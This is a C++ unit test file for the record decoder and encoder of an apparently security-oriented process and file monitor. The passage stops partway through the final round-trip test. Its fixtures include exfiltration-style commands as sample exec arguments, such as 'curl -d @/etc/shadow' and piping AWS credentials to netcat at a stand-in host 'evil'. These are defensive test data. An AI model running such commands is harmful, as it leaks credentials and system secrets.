// decode(): ring-buffer bytes -> event, and encode(), its inverse.
#include <catch2/catch.hpp>

#include <cstring>
#include <string>
#include <vector>

#include "barbwire/decode.hpp"

using namespace barbwire;
using namespace std::string_literals;
using namespace std::chrono_literals;

namespace {

// Raw bytes of a record struct, built by hand so these tests do not depend on encode().
template <class Record>
std::vector<std::byte> bytes_of(const Record& r, std::size_t size = sizeof(Record)) {
    std::vector<std::byte> out(size);
    std::memcpy(out.data(), &r, std::min(size, sizeof(Record)));
    return out;
}

bw_event_header header(std::uint16_t kind, std::uint32_t size) {
    bw_event_header h{};
    h.kind = kind;
    h.version = BW_ABI_VERSION;
    h.size = size;
    h.ktime_ns = 123456789;
    h.pid = 11; // thread
    h.tgid = 10; // process
    return h;
}

bw_open_event open_record(std::string_view path) {
    bw_open_event r{};
    r.hdr = header(BW_EVENT_OPEN, sizeof(r));
    r.dev = 0x803;
    r.ino = 4242;
    r.flags = 0x80000;
    r.uid = 1000;
    std::memcpy(r.path, path.data(), path.size());
    r.path_size = static_cast<std::uint16_t>(path.size());
    return r;
}

bw_net_event net_record() {
    bw_net_event r{};
    r.hdr = header(BW_EVENT_NET, sizeof(r));
    r.family = AF_INET;
    r.port = 443;
    r.protocol = IPPROTO_TCP;
    r.op = BW_NET_CONNECT;
    r.uid = 7;
    r.addr[0] = 203;
    r.addr[1] = 0;
    r.addr[2] = 113;
    r.addr[3] = 7;
    return r;
}

bw_write_event write_record(std::string_view path) {
    bw_write_event r{};
    r.hdr = header(BW_EVENT_WRITE, sizeof(r));
    r.dev = 0x803;
    r.ino = 5150;
    r.bytes = 3389;
    r.uid = 1000;
    r.source = BW_SRC_SYSCALL;
    r.how = BW_WRITE_WRITE;
    std::memcpy(r.path, path.data(), path.size());
    r.path_size = static_cast<std::uint16_t>(path.size());
    return r;
}

bw_open_repeat_event repeat_record() {
    bw_open_repeat_event r{};
    r.hdr = header(BW_EVENT_OPEN_REPEAT, sizeof(r));
    r.dev = 0x803;
    r.ino = r.key.ino = 77;
    r.flags = 0x8000;
    r.uid = 1000;
    r.gen = 5;
    return r;
}

bw_exec_event exec_record() {
    bw_exec_event r{};
    r.hdr = header(BW_EVENT_EXEC, sizeof(r));
    r.ppid = 1;
    r.uid = 1000;
    r.sid = 5;
    r.pgid = 6;
    r.exe_dev = 0x801;
    r.exe_ino = 99;
    std::memcpy(r.comm, "curl", 4);
    std::memcpy(r.exe, "/usr/bin/curl", 13);
    const char args[] = "curl\0-d\0@/etc/shadow\0";
    std::memcpy(r.argv, args, sizeof(args) - 1);
    r.argv_size = sizeof(args) - 1;
    return r;
}

error decode_error(const std::vector<std::byte>& b) {
    auto r = decode(b);
    REQUIRE_FALSE(r.has_value());
    return r.error();
}

event make_event(event_body body) {
    event e;
    e.ts = nanoseconds{987654321};
    e.pid = 300;
    e.tid = 301;
    e.body = std::move(body);
    return e;
}

} // namespace

TEST_CASE("record_size matches the ABI structs") {
    CHECK(record_size(event_kind::exec) == 984);
    CHECK(record_size(event_kind::fork) == 32);
    CHECK(record_size(event_kind::exit) == 32);
    CHECK(record_size(event_kind::open) == 680);
    CHECK(record_size(event_kind::net) == 80);
    CHECK(record_size(event_kind::write) == 568);
    CHECK(record_size(event_kind::foreign) == 40);
    CHECK(record_size(event_kind::script) == 560);
    CHECK(record_size(event_kind::file) == 0);
    CHECK(max_record_size == 984);
    CHECK(record_size_of_kind(BW_EVENT_OPEN_REPEAT) == 112);
    CHECK(record_size_of_kind(BW_EVENT_WRITE) == 568);
    CHECK(record_size_of_kind(BW_EVENT_NET) == 80);
    CHECK(record_size_of_kind(0) == 0);
    CHECK(record_size_of_kind(BW_EVENT_KIND_MAX + 1) == 0);
}

TEST_CASE("decode: exec record") {
    auto r = decode(bytes_of(exec_record()));
    REQUIRE(r.has_value());
    CHECK(r->ts == nanoseconds{123456789});
    CHECK(r->pid == 10);
    CHECK(r->tid == 11);
    CHECK_FALSE(r->truncated);
    REQUIRE(r->kind() == event_kind::exec);
    const auto& x = *r->as<exec_event>();
    CHECK(x.ppid == 1);
    CHECK(x.uid == 1000);
    CHECK(x.sid == 5);
    CHECK(x.pgid == 6);
    CHECK(x.exe_dev == 0x801);
    CHECK(x.exe_ino == 99);
    CHECK(x.comm == "curl");
    CHECK(x.exe == "/usr/bin/curl");
    CHECK(x.argv == std::vector<std::string>{"curl", "-d", "@/etc/shadow"});
    CHECK(x.exe_sha256.empty());
}

TEST_CASE("decode: fork maps child_tgid to child_pid and child_pid to child_tid") {
    bw_fork_event r{};
    r.hdr = header(BW_EVENT_FORK, sizeof(r));
    r.child_pid = 77;  // thread id
    r.child_tgid = 70; // process id
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    REQUIRE(e->as<fork_event>() != nullptr);
    CHECK(e->as<fork_event>()->child_pid == 70);
    CHECK(e->as<fork_event>()->child_tid == 77);
    CHECK(e->pid == 10);
    CHECK(e->tid == 11);
}

TEST_CASE("decode: exit record keeps a negative exit code") {
    bw_exit_event r{};
    r.hdr = header(BW_EVENT_EXIT, sizeof(r));
    r.exit_code = -9;
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    REQUIRE(e->as<exit_event>() != nullptr);
    CHECK(e->as<exit_event>()->exit_code == -9);
}

TEST_CASE("decode: open record") {
    auto e = decode(bytes_of(open_record("/home/a/.ssh/id_rsa")));
    REQUIRE(e.has_value());
    const auto* o = e->as<open_event>();
    REQUIRE(o != nullptr);
    CHECK(o->path == "/home/a/.ssh/id_rsa");
    CHECK(o->dev == 0x803);
    CHECK(o->ino == 4242);
    CHECK(o->flags == 0x80000);
    CHECK(o->uid == 1000);
}

TEST_CASE("decode: open path is bounded by path_size and by the first NUL") {
    SECTION("path_size shorter than the string") {
        auto r = open_record("/etc/shadow");
        r.path_size = 4;
        CHECK(decode(bytes_of(r))->as<open_event>()->path == "/etc");
    }
    SECTION("NUL before path_size") {
        auto r = open_record("/etc/shadow");
        r.path[4] = '\0';
        CHECK(decode(bytes_of(r))->as<open_event>()->path == "/etc");
    }
    SECTION("path_size zero") {
        auto r = open_record("/etc/shadow");
        r.path_size = 0;
        CHECK(decode(bytes_of(r))->as<open_event>()->path.empty());
    }
    SECTION("a path filling the whole field with no NUL") {
        const std::string full(BW_PATH_MAX, 'p');
        auto r = open_record(full);
        REQUIRE(r.path_size == BW_PATH_MAX);
        CHECK(decode(bytes_of(r))->as<open_event>()->path == full);
    }
}

TEST_CASE("decode: strings exactly filling their fields with no NUL") {
    auto r = exec_record();
    std::memset(r.comm, 'c', sizeof(r.comm));
    std::memset(r.exe, 'e', sizeof(r.exe));
    std::memset(r.argv, 'a', sizeof(r.argv));
    r.argv_size = BW_ARGV_MAX;
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    const auto& x = *e->as<exec_event>();
    CHECK(x.comm == std::string(BW_COMM_LEN, 'c'));
    CHECK(x.exe == std::string(BW_PATH_MAX, 'e'));
    CHECK(x.argv == std::vector<std::string>{std::string(BW_ARGV_MAX, 'a')});
}

TEST_CASE("decode: argv splitting") {
    auto argv_of = [](std::string_view raw) {
        auto r = exec_record();
        std::memset(r.argv, 'X', sizeof(r.argv)); // bytes past argv_size must be ignored
        std::memcpy(r.argv, raw.data(), raw.size());
        r.argv_size = static_cast<std::uint16_t>(raw.size());
        auto e = decode(bytes_of(r));
        REQUIRE(e.has_value());
        return e->as<exec_event>()->argv;
    };
    using v = std::vector<std::string>;
    CHECK(argv_of("") == v{});
    CHECK(argv_of("ls"s) == v{"ls"});
    CHECK(argv_of("ls\0"s) == v{"ls"});
    CHECK(argv_of("ls\0-l\0"s) == v{"ls", "-l"});
    CHECK(argv_of("ls\0-l"s) == v{"ls", "-l"}); // cut by the kernel: last argument without NUL
    CHECK(argv_of("\0"s) == v{""});
    CHECK(argv_of("a\0\0b\0"s) == v{"a", "", "b"});
    CHECK(argv_of("a\0\0"s) == v{"a", ""});
}

TEST_CASE("decode: truncated flag") {
    auto r = open_record("/x");
    r.hdr.flags = BW_F_TRUNCATED;
    CHECK(decode(bytes_of(r))->truncated);
    r.hdr.flags = 0x80; // unknown flag bits are ignored
    CHECK_FALSE(decode(bytes_of(r))->truncated);
}

TEST_CASE("decode: IPv4 uses four bytes and zeroes the rest") {
    auto r = net_record();
    std::memset(r.addr + 4, 0xEE, 12); // stale bytes after the IPv4 address
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    const auto* n = e->as<net_event>();
    REQUIRE(n != nullptr);
    CHECK(n->op == net_op::connect);
    CHECK(n->protocol == ip_proto::tcp);
    CHECK(n->addr.family == AF_INET);
    CHECK(n->addr.to_string() == "203.0.113.7");
    CHECK(n->addr == *ip_address::parse("203.0.113.7"));
    for (std::size_t i = 4; i < 16; ++i) CHECK(n->addr.bytes[i] == 0);
    CHECK(n->port == 443);
    CHECK(n->uid == 7);
}

TEST_CASE("decode: IPv6 UDP send") {
    auto r = net_record();
    r.family = AF_INET6;
    r.protocol = IPPROTO_UDP;
    r.op = BW_NET_SEND;
    r.port = 53;
    const auto a = *ip_address::parse("2001:db8::1");
    std::memcpy(r.addr, a.bytes.data(), 16);
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    const auto* n = e->as<net_event>();
    CHECK(n->op == net_op::send);
    CHECK(n->protocol == ip_proto::udp);
    CHECK(n->addr == a);
    CHECK(n->addr.to_string() == "2001:db8::1");
    CHECK(n->port == 53);
}

TEST_CASE("decode: write record") {
    auto r = write_record("/home/a/.cache/k");
    r.source = BW_SRC_IO_URING;
    r.how = BW_WRITE_COPY;
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    CHECK(e->ts == nanoseconds{123456789});
    CHECK(e->pid == 10);
    CHECK(e->tid == 11);
    CHECK_FALSE(e->truncated);
    REQUIRE(e->kind() == event_kind::write);
    const auto& w = *e->as<write_event>();
    CHECK(w.path == "/home/a/.cache/k");
    CHECK(w.dev == 0x803);
    CHECK(w.ino == 5150);
    CHECK(w.bytes == 3389);
    CHECK(w.uid == 1000);
    CHECK(w.source == access_path::io_uring);
    CHECK(w.how == write_how::copy);

    for (std::uint8_t how = BW_WRITE_WRITE; how <= BW_WRITE_HOW_MAX; ++how) {
        for (std::uint8_t src = 0; src <= BW_SRC_MAX; ++src) {
            r.how = how;
            r.source = src;
            const auto d = decode(bytes_of(r));
            REQUIRE(d.has_value());
            CHECK(static_cast<unsigned>(d->as<write_event>()->how) == how);
            CHECK(static_cast<unsigned>(d->as<write_event>()->source) == src);
        }
    }
    r.hdr.flags = BW_F_TRUNCATED;
    CHECK(decode(bytes_of(r))->truncated);
}

TEST_CASE("decode: write path is bounded by path_size and by the first NUL") {
    auto path_of = [](bw_write_event r) {
        auto e = decode(bytes_of(r));
        REQUIRE(e.has_value());
        return e->as<write_event>()->path;
    };
    auto r = write_record("/tmp/stolen");
    r.path_size = 4;
    CHECK(path_of(r) == "/tmp");
    r = write_record("/tmp/stolen");
    r.path[4] = '\0';
    CHECK(path_of(r) == "/tmp");
    r = write_record("/tmp/stolen");
    r.path_size = 0;
    CHECK(path_of(r).empty());
    r = write_record("/tmp/stolen");
    std::memset(r.path + 11, 'Z', 100); // stale bytes past path_size
    CHECK(path_of(r) == "/tmp/stolen");
    const std::string full(BW_PATH_MAX, 'p');
    r = write_record(full);
    REQUIRE(r.path_size == BW_PATH_MAX);
    CHECK(path_of(r) == full);
}

TEST_CASE("decode: open source") {
    for (const auto& [src, want] : {std::pair{BW_SRC_SYSCALL, access_path::syscall},
                                    std::pair{BW_SRC_COMPAT, access_path::compat},
                                    std::pair{BW_SRC_IO_URING, access_path::io_uring}}) {
        auto r = open_record("/etc/shadow");
        r.source = static_cast<std::uint8_t>(src);
        r._pad0 = 0xFF; // padding is ignored
        auto e = decode(bytes_of(r));
        REQUIRE(e.has_value());
        CHECK(e->as<open_event>()->source == want);
        CHECK(e->as<open_event>()->path == "/etc/shadow");
    }
}

TEST_CASE("decode: net fields of ABI 3 (socket type, flags, bytes, connection time, cookie, any protocol)") {
    auto r = net_record();
    r.op = BW_NET_SEND;
    r.sock_type = 1; // SOCK_STREAM
    r.net_flags = BW_NETF_PEER;
    r.bytes = 3389;
    r.conn_ns = 1'000'000'000;
    r.cookie = 0xABCDEF0123456789ull;
    auto e = decode(bytes_of(r));
    REQUIRE(e.has_value());
    const auto* n = e->as<net_event>();
    REQUIRE(n != nullptr);
    CHECK(n->op == net_op::send);
    CHECK(n->protocol == ip_proto::tcp);
    CHECK(n->sock == sock_kind::stream);
    CHECK(n->peer);
    CHECK_FALSE(n->accepted);
    CHECK(n->bytes == 3389);
    CHECK(n->conn_ts == nanoseconds{1'000'000'000});
    CHECK(n->cookie == 0xABCDEF0123456789ull);

    SECTION("flags: each bit, and unknown bits ignored") {
        r.net_flags = BW_NETF_ACCEPTED;
        CHECK_FALSE(decode(bytes_of(r))->as<net_event>()->peer);
        CHECK(decode(bytes_of(r))->as<net_event>()->accepted);
        r.net_flags = BW_NETF_PEER | BW_NETF_ACCEPTED;
        CHECK(decode(bytes_of(r))->as<net_event>()->peer);
        CHECK(decode(bytes_of(r))->as<net_event>()->accepted);
        r.net_flags = 0xFC;
        CHECK_FALSE(decode(bytes_of(r))->as<net_event>()->peer);
        CHECK_FALSE(decode(bytes_of(r))->as<net_event>()->accepted);
    }
    SECTION("every socket type the kernel side reports") {
        for (const auto& [t, want] : {std::pair{0, sock_kind::unknown}, std::pair{1, sock_kind::stream},
                                      std::pair{2, sock_kind::dgram}, std::pair{3, sock_kind::raw},
                                      std::pair{5, sock_kind::seqpacket}, std::pair{6, sock_kind::dccp}}) {
            r.sock_type = static_cast<std::uint8_t>(t);
            auto d = decode(bytes_of(r));
            REQUIRE(d.has_value());
            CHECK(d->as<net_event>()->sock == want);
        }
    }
    SECTION("any protocol number: ICMP, a raw socket's") {
        r.port = 0;
        for (unsigned p = 0; p <= 255; ++p) {
            r.protocol = static_cast<std::uint8_t>(p);
            auto d = decode(bytes_of(r));
            REQUIRE(d.has_value());
            CHECK(static_cast<unsigned>(d->as<net_event>()->protocol) == p);
        }
        r.protocol = IPPROTO_ICMP;
        CHECK(decode(bytes_of(r))->as<net_event>()->protocol == ip_proto::icmp);
        r.protocol = IPPROTO_ICMPV6;
        CHECK(decode(bytes_of(r))->as<net_event>()->protocol == ip_proto::icmpv6);
    }
    SECTION("a connection time above INT64_MAX keeps its bits") {
        r.conn_ns = 0xFFFFFFFFFFFFFFFFull;
        auto d = decode(bytes_of(r));
        CHECK(d->as<net_event>()->conn_ts == nanoseconds{-1});
        const auto back = *encode(*d);
        bw_net_event again;
        std::memcpy(&again, back.data(), sizeof(again));
        CHECK(again.conn_ns == 0xFFFFFFFFFFFFFFFFull);
    }
    SECTION("the explicit padding is ignored") {
        r._pad1 = 0xFFFFFFFF;
        const auto d = decode(bytes_of(r));
        r._pad1 = 0;
        CHECK(*d == *decode(bytes_of(r)));
    }
}

TEST_CASE("decode_record: the open_repeat record is 112 bytes and carries the open's source") {
    CHECK(sizeof(bw_open_repeat_event) == 112);
    auto r = repeat_record();
    r.source = BW_SRC_COMPAT;
    auto rec = decode_record(bytes_of(r));
    REQUIRE(rec.has_value());
    REQUIRE(rec->as_repeat() != nullptr);
    CHECK(rec->as_repeat()->source == access_path::compat);
    CHECK(rec->as_repeat()->ino == 77);
    CHECK(rec->as_repeat()->gen == 5);
    // encode_repeat writes the same bytes back
    CHECK(encode_repeat(*rec->as_repeat()) == bytes_of(r));
    for (std::uint8_t src = 0; src <= BW_SRC_MAX; ++src) {
        open_repeat o = *rec->as_repeat();
        o.source = static_cast<access_path>(src);
        const auto b = encode_repeat(o);
        REQUIRE(b.size() == 112);
        CHECK(*decode_record(b)->as_repeat() == o);
    }
    // the ABI 2 size (104 bytes) is short now, and more is oversized
    auto old = r;
    old.hdr.size = 104;
    auto err = decode_record(bytes_of(old, 104));
    REQUIRE_FALSE(err.has_value());
    CHECK(err.error().code == errc::short_record);
    CHECK(err.error().message == "open_repeat record is 104 bytes, needs 112");
    auto big = r;
    big.hdr.size = 120;
    err = decode_record(bytes_of(big, 120));
    REQUIRE_FALSE(err.has_value());
    CHECK(err.error().code == errc::oversized_record);
    CHECK(err.error().message == "open_repeat record is 120 bytes, expected 112");
    // and no prefix of it decodes
    const auto whole = bytes_of(r);
    for (std::size_t n = 0; n < whole.size(); ++n)
        CHECK_FALSE(decode_record(std::span<const std::byte>(whole.data(), n)).has_value());
    // too small a buffer: encode_repeat_into writes nothing
    std::array<std::byte, 111> small{};
    CHECK(encode_repeat_into(*rec->as_repeat(), small) == 0);
}

TEST_CASE("decode never reads past the span: a prefix of a write or a net record is rejected") {
    for (const auto& rec : {bytes_of(write_record("/tmp/x")), bytes_of(net_record())}) {
        for (std::size_t n = 0; n < rec.size(); ++n) {
            auto r = decode(std::span<const std::byte>(rec.data(), n));
            REQUIRE_FALSE(r.has_value());
            CHECK((r.error().code == errc::short_record || r.error().code == errc::size_mismatch));
        }
    }
}

TEST_CASE("decode errors: short_record") {
    SECTION("empty input") {
        auto err = decode_error({});
        CHECK(err.code == errc::short_record);
        CHECK(err.message == "record is 0 bytes, shorter than the 24-byte header");
    }
    SECTION("less than a header") {
        auto b = bytes_of(open_record("/x"), 23);
        auto err = decode_error(b);
        CHECK(err.code == errc::short_record);
        CHECK(err.message == "record is 23 bytes, shorter than the 24-byte header");
    }
    SECTION("less than the kind needs, header.size agreeing") {
        auto r = open_record("/x");
        r.hdr.size = 40;
        auto err = decode_error(bytes_of(r, 40));
        CHECK(err.code == errc::short_record);
        CHECK(err.message == "open record is 40 bytes, needs 680");
    }
    SECTION("a header alone") {
        auto r = net_record();
        r.hdr.size = 24;
        auto err = decode_error(bytes_of(r, 24));
        CHECK(err.code == errc::short_record);
        CHECK(err.message == "net record is 24 bytes, needs 80");
    }
    SECTION("a write of the ABI 2 net size") {
        auto r = write_record("/x");
        r.hdr.size = 56;
        auto err = decode_error(bytes_of(r, 56));
        CHECK(err.code == errc::short_record);
        CHECK(err.message == "write record is 56 bytes, needs 568");
    }
}

TEST_CASE("decode errors: oversized_record") {
    bw_fork_event r{};
    r.hdr = header(BW_EVENT_FORK, 40);
    auto err = decode_error(bytes_of(r, 40));
    CHECK(err.code == errc::oversized_record);
    CHECK(err.message == "fork record is 40 bytes, expected 32");
    auto w = write_record("/x");
    w.hdr.size = 576;
    auto werr = decode_error(bytes_of(w, 576));
    CHECK(werr.code == errc::oversized_record);
    CHECK(werr.message == "write record is 576 bytes, expected 568");
}

TEST_CASE("decode errors: size_mismatch") {
    auto r = open_record("/x");
    r.hdr.size = 600;
    auto err = decode_error(bytes_of(r));
    CHECK(err.code == errc::size_mismatch);
    CHECK(err.message == "open record header says 600 bytes, got 680");
    auto w = write_record("/x");
    w.hdr.size = 680; // an open's size on a write
    auto werr = decode_error(bytes_of(w));
    CHECK(werr.code == errc::size_mismatch);
    CHECK(werr.message == "write record header says 680 bytes, got 568");
}

TEST_CASE("decode errors: unknown_kind") {
    for (std::uint16_t kind : {std::uint16_t{0}, std::uint16_t{10}, std::uint16_t{0xFFFF}}) {
        auto r = open_record("/x");
        r.hdr.kind = kind;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::unknown_kind);
        CHECK(err.message == "unknown record kind " + std::to_string(kind) + " (known: 1..9)");
    }
}

TEST_CASE("decode errors: bad_version") {
    auto r = open_record("/x");
    r.hdr.version = 2; // the layout before ABI 3 (the same size: only _pad0 became source)
    auto err = decode_error(bytes_of(r));
    CHECK(err.code == errc::bad_version);
    CHECK(err.message == "record has ABI version 2, expected 5");
    r.hdr.version = 1; // the layout before the kernel filter
    CHECK(decode_error(bytes_of(r)).message == "record has ABI version 1, expected 5");
    auto w = write_record("/x");
    w.hdr.version = 2; // there was no write record in ABI 2
    CHECK(decode_error(bytes_of(w)).code == errc::bad_version);
}

TEST_CASE("decode errors: the check order is header, version, kind, size field, length, fields") {
    SECTION("version before kind") {
        auto r = open_record("/x");
        r.hdr.version = 0;
        r.hdr.kind = 99;
        CHECK(decode_error(bytes_of(r)).code == errc::bad_version);
    }
    SECTION("kind before size") {
        auto r = open_record("/x");
        r.hdr.kind = 99;
        r.hdr.size = 1;
        CHECK(decode_error(bytes_of(r)).code == errc::unknown_kind);
    }
    SECTION("size field before record length") {
        auto r = open_record("/x");
        r.hdr.size = 680; // the right size for the kind, but only 100 bytes given
        CHECK(decode_error(bytes_of(r, 100)).code == errc::size_mismatch);
    }
    SECTION("record length before fields") {
        auto r = net_record();
        r.family = 1;
        r.hdr.size = 88;
        CHECK(decode_error(bytes_of(r, 88)).code == errc::oversized_record);
        r.hdr.size = 60;
        CHECK(decode_error(bytes_of(r, 60)).code == errc::short_record);
    }
}

TEST_CASE("decode errors: bad_field") {
    SECTION("net family") {
        auto r = net_record();
        r.family = 1; // AF_UNIX
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "net record family 1 is neither AF_INET (2) nor AF_INET6 (10)");
    }
    SECTION("net op") {
        auto r = net_record();
        r.op = 3;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "net record op 3 is neither connect (1) nor send (2)");
    }
    SECTION("net op zero") {
        auto r = net_record();
        r.op = 0;
        CHECK(decode_error(bytes_of(r)).code == errc::bad_field);
    }
    SECTION("net sock_type") {
        for (std::uint8_t t : {std::uint8_t{4}, std::uint8_t{7}, std::uint8_t{10}, std::uint8_t{255}}) {
            auto r = net_record();
            r.sock_type = t; // 4 is SOCK_RDM: not a socket the kernel side reports
            auto err = decode_error(bytes_of(r));
            CHECK(err.code == errc::bad_field);
            CHECK(err.message == "net record sock_type " + std::to_string(t) +
                                     " is not 0 or a SOCK_* value (1, 2, 3, 5, 6)");
        }
    }
    SECTION("open source") {
        for (std::uint8_t src : {std::uint8_t{3}, std::uint8_t{255}}) {
            auto r = open_record("/x");
            r.source = src;
            auto err = decode_error(bytes_of(r));
            CHECK(err.code == errc::bad_field);
            CHECK(err.message == "open record source " + std::to_string(src) + " is not a BW_SRC_* value (0..2)");
        }
    }
    SECTION("open_repeat source (decode_record)") {
        auto r = repeat_record();
        r.source = 3;
        auto rec = decode_record(bytes_of(r));
        REQUIRE_FALSE(rec.has_value());
        CHECK(rec.error().code == errc::bad_field);
        CHECK(rec.error().message == "open_repeat record source 3 is not a BW_SRC_* value (0..2)");
        // decode() reports the bad field too, before refusing the repeat
        CHECK(decode_error(bytes_of(r)).message == rec.error().message);
        r.source = BW_SRC_MAX;
        CHECK(decode_record(bytes_of(r)).has_value());
    }
    SECTION("write path_size") {
        auto r = write_record("/x");
        r.path_size = BW_PATH_MAX + 1;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "write record path_size 513 exceeds the 512-byte path field");
        r.source = 9; // path_size is checked first
        r.how = 0;
        CHECK(decode_error(bytes_of(r)).message == err.message);
    }
    SECTION("write source") {
        auto r = write_record("/x");
        r.source = 3;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "write record source 3 is not a BW_SRC_* value (0..2)");
        r.how = 0; // source is checked before how
        CHECK(decode_error(bytes_of(r)).message == err.message);
    }
    SECTION("write how") {
        for (std::uint8_t how : {std::uint8_t{0}, std::uint8_t{4}, std::uint8_t{255}}) {
            auto r = write_record("/x");
            r.how = how; // 0: a zeroed record is no valid write
            auto err = decode_error(bytes_of(r));
            CHECK(err.code == errc::bad_field);
            CHECK(err.message == "write record how " + std::to_string(how) + " is not a BW_WRITE_* value (1..3)");
        }
    }
    SECTION("open path_size") {
        auto r = open_record("/x");
        r.path_size = BW_PATH_MAX + 1;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "open record path_size 513 exceeds the 512-byte path field");
    }
    SECTION("exec argv_size") {
        auto r = exec_record();
        r.argv_size = 0xFFFF;
        auto err = decode_error(bytes_of(r));
        CHECK(err.code == errc::bad_field);
        CHECK(err.message == "exec record argv_size 65535 exceeds the 256-byte argv field");
    }
    SECTION("limits themselves are accepted") {
        auto o = open_record("/x");
        o.path_size = BW_PATH_MAX;
        CHECK(decode(bytes_of(o)).has_value());
        auto x = exec_record();
        x.argv_size = BW_ARGV_MAX;
        CHECK(decode(bytes_of(x)).has_value());
        auto w = write_record("/x");
        w.path_size = BW_PATH_MAX;
        w.source = BW_SRC_MAX;
        w.how = BW_WRITE_HOW_MAX;
        CHECK(decode(bytes_of(w)).has_value());
        o.source = BW_SRC_MAX;
        CHECK(decode(bytes_of(o)).has_value());
        for (std::uint8_t t : {0, 1, 2, 3, 5, 6}) {
            auto n = net_record();
            n.sock_type = t;
            CHECK(decode(bytes_of(n)).has_value());
        }
    }
}

TEST_CASE("decode: unaligned input at every offset") {
    const auto rec = bytes_of(exec_record());
    const auto want = decode(rec);
    REQUIRE(want.has_value());
    std::vector<std::byte> buf(rec.size() + 16);
    for (std::size_t off = 1; off < 16; ++off) {
        std::memcpy(buf.data() + off, rec.data(), rec.size());
        auto got = decode(std::span<const std::byte>(buf.data() + off, rec.size()));
        REQUIRE(got.has_value());
        CHECK(*got == *want);
    }
}

TEST_CASE("decode never reads past the span: a prefix of a valid record is rejected") {
    const auto rec = bytes_of(exec_record());
    for (std::size_t n = 0; n < rec.size(); ++n) {
        auto r = decode(std::span<const std::byte>(rec.data(), n));
        REQUIRE_FALSE(r.has_value());
        CHECK((r.error().code == errc::short_record || r.error().code == errc::size_mismatch));
    }
}

TEST_CASE("encode: the record is zeroed and laid out as the ABI says") {
    open_event o;
    o.path = "/etc/shadow";
    o.dev = 1;
    o.ino = 2;
    o.flags = 3;
    o.uid = 4;
    const auto b = *encode(make_event(o));
    REQUIRE(b.size() == sizeof(bw_open_event));
    bw_open_event r;
    std::memcpy(&r, b.data(), sizeof(r));
    CHECK(r.hdr.kind == BW_EVENT_OPEN);
    CHECK(r.hdr.version == BW_ABI_VERSION);
    CHECK(r.hdr.flags == 0);
    CHECK(r.hdr.size == sizeof(bw_open_event));
    CHECK(r.hdr.ktime_ns == 987654321);
    CHECK(r.hdr.tgid == 300);
    CHECK(r.hdr.pid == 301);
    CHECK(r.path_size == 11);
    CHECK(std::string_view(r.path, 11) == "/etc/shadow");
    for (std::size_t i = 11; i < sizeof(r.path); ++i) CHECK(r.path[i] == '\0');
    CHECK(r._pad0 == 0);
    CHECK(r._pad1 == 0);
}

TEST_CASE("encode: write and net records are laid out as the ABI says") {
    write_event w{"/tmp/k", 1, 2, 3, 4, access_path::io_uring, write_how::clone};
    auto b = *encode(make_event(w));
    REQUIRE(b.size() == sizeof(bw_write_event));
    bw_write_event r;
    std::memcpy(&r, b.data(), sizeof(r));
    CHECK(r.hdr.kind == BW_EVENT_WRITE);
    CHECK(r.hdr.version == BW_ABI_VERSION);
    CHECK(r.hdr.flags == 0);
    CHECK(r.hdr.size == sizeof(bw_write_event));
    CHECK(r.hdr.tgid == 300);
    CHECK(r.hdr.pid == 301);
    CHECK(r.dev == 1);
    CHECK(r.ino == 2);
    CHECK(r.bytes == 3);
    CHECK(r.uid == 4);
    CHECK(r.source == BW_SRC_IO_URING);
    CHECK(r.how == BW_WRITE_CLONE);
    CHECK(r.path_size == 6);
    CHECK(std::string_view(r.path, 6) == "/tmp/k");
    for (std::size_t i = 6; i < sizeof(r.path); ++i) CHECK(r.path[i] == '\0');

    net_event n;
    n.op = net_op::send;
    n.protocol = ip_proto::icmp;
    n.addr = *ip_address::parse("192.0.2.1");
    n.sock = sock_kind::dgram;
    n.peer = false;
    n.accepted = true;
    n.bytes = 64;
    n.conn_ts = nanoseconds{77};
    n.cookie = 88;
    b = *encode(make_event(n));
    REQUIRE(b.size() == sizeof(bw_net_event));
    bw_net_event nr;
    std::memcpy(&nr, b.data(), sizeof(nr));
    CHECK(nr.hdr.kind == BW_EVENT_NET);
    CHECK(nr.family == AF_INET);
    CHECK(nr.protocol == IPPROTO_ICMP);
    CHECK(nr.op == BW_NET_SEND);
    CHECK(nr.sock_type == 2);
    CHECK(nr.net_flags == BW_NETF_ACCEPTED);
    CHECK(nr.bytes == 64);
    CHECK(nr.conn_ns == 77);
    CHECK(nr.cookie == 88);
    CHECK(nr._pad1 == 0);
    for (std::size_t i = 4; i < 16; ++i) CHECK(nr.addr[i] == 0);

    open_event o;
    o.path = "/x";
    o.source = access_path::compat;
    b = *encode(make_event(o));
    bw_open_event orec;
    std::memcpy(&orec, b.data(), sizeof(orec));
    CHECK(orec.source == BW_SRC_COMPAT);
    CHECK(orec._pad0 == 0);
}

TEST_CASE("encode: a write path that does not fit is cut and flagged") {
    write_event w;
    w.path = "/" + std::string(BW_PATH_MAX, 'p');
    auto back = decode(*encode(make_event(w)));
    REQUIRE(back.has_value());
    CHECK(back->truncated);
    CHECK(back->as<write_event>()->path == w.path.substr(0, BW_PATH_MAX));
}

TEST_CASE("round trip decode(*encode(e)) == e for each kind") {
    exec_event x;
    x.ppid = 1;
    x.uid = 2;
    x.sid = 3;
    x.pgid = 4;
    x.exe_dev = 0xFFFFFFFFFFFFFFFFull;
    x.exe_ino = 6;
    x.comm = "bash";
    x.exe = "/usr/bin/bash";
    x.argv = {"bash", "-c", "", "cat ~/.aws/credentials | nc evil 9"};
    fork_event f{.child_pid = 500, .child_tid = 501};
    exit_event xt{.exit_code = -1};
    open_event o;
    o.path = "/root/.ssh/id_ed25519";
    o.flags = -1;
    o.dev = 7;
    o.ino = 8;
    o.uid = 0xFFFFFFFF;
    net_event n4;
    n4.addr = *ip_address::parse("10.1.2.3");
    n4.port = 65535;
    n4.uid = 9;
    net_event n6;
    n6.op = net_op::send;
    n6.protocol = ip_proto::udp;
